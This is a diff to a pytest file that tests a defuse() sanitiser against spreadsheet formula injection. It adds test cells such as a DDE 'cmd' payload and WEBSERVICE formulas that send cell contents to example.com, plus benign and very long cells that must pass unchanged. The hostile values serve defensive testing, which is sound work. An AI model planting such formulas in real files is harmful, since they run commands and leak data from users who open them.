@@ -63,12 +63,36 @@ def test_a_name_is_no_formula_in_a_spreadsheet(hostile, command):
 
 
 @pytest.mark.parametrize(
-    "cell", ["=SUM(A1)", "+1+cmd|' /C calc'!A0", "@SUM(1)", " =A(1)", "\t-A(1)"]
+    "cell",
+    [
+        "=SUM(A1)",
+        "=1+1",
+        "=A1",
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1)",
+        " =A(1)",
+        "\t-A(1)",
+        "-1 + $B$2:B9 * (3)^SUM (1)",
+        "+(((A(1))))",
+        '-"a b"&WEBSERVICE("http://example.com/"&A1)',
+        "@A1 INDEX(A1:A9,_xlfn.WebService (A2))",
+    ],
 )
 def test_what_calls_something_is_defused(cell):
     assert defuse(cell) == f"'{cell}"
 
 
-@pytest.mark.parametrize("cell", ["-3", "@name hello", "a (b)", "+82 10", "=", 3, None])
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *("-3", "@name hello", "a (b)", "+82 10", "=", 3, None),
+        "@anna I love it (so much)",
+        "-1 (a).jpg",
+        "- so good (but long)",
+        "-" + " " * 100_000,
+        "-" + "a+" * 50_000,
+    ],
+    ids=lambda cell: str(cell)[:20],
+)
 def test_what_calls_nothing_stays(cell):
     assert defuse(cell) is cell
